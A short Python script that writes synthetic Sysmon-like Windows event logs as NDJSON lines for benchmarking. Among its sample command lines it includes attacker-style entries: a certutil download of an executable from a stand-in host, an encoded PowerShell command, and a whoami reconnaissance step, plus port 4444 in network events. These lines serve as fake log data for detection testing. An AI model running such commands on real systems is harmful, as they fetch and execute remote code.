#!/usr/bin/env python3
"""Writes N deterministic Sysmon-like Windows events (process creation, network, file, registry)
as flat NXLog-style JSON lines, for benchmarks.

usage: gen_sysmon_events.py N > events.ndjson
"""
import json
import random
import sys

IMAGES = [r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
          r"C:\Windows\explorer.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe",
          r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\certutil.exe",
          r"C:\Windows\System32\rundll32.exe", r"C:\Users\bob\AppData\Local\Temp\updater.exe"]
COMMANDS = ["/c whoami", "-NoProfile -EncodedCommand SQBFAFgA", "-urlcache -split -f http://example.com/a.exe",
            "--type=renderer", "-k netsvcs -p", "shell32.dll,Control_RunDLL", "/c dir C:\\Users", ""]

def main() -> None:
    n = int(sys.argv[1]) if len(sys.argv) > 1 else 100_000
    rng = random.Random(4688)
    out = sys.stdout
    for i in range(n):
        image = rng.choice(IMAGES)
        event_id = rng.choice([1, 1, 1, 3, 11, 13])
        event = {
            "EventTime": f"2024-05-14 {9 + i // 360000 % 10:02d}:{i // 6000 % 60:02d}:{i // 100 % 60:02d}",
            "Hostname": f"WS{rng.randrange(50):03d}.corp.example.com",
            "EventID": event_id,
            "Channel": "Microsoft-Windows-Sysmon/Operational",
            "ProviderName": "Microsoft-Windows-Sysmon",
            "UtcTime": f"2024-05-14 09:{i // 6000 % 60:02d}:{i // 100 % 60:02d}.{i % 1000:03d}",
            "ProcessGuid": "{%08x-1234-5678-9abc-%012x}" % (rng.getrandbits(32), rng.getrandbits(48)),
            "ProcessId": rng.randrange(100, 20000),
            "Image": image,
            "CommandLine": f'"{image}" {rng.choice(COMMANDS)}',
            "User": rng.choice(["CORP\\bob", "CORP\\alice", "NT AUTHORITY\\SYSTEM"]),
            "ParentImage": rng.choice(IMAGES),
            "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
        }
        if event_id == 3:
            event.update({"DestinationIp": f"198.51.100.{rng.randrange(1, 255)}", "DestinationPort": str(rng.choice([80, 443, 445, 4444]))})
        out.write(json.dumps(event, separators=(",", ":")) + "\n")

if __name__ == "__main__":
    main()
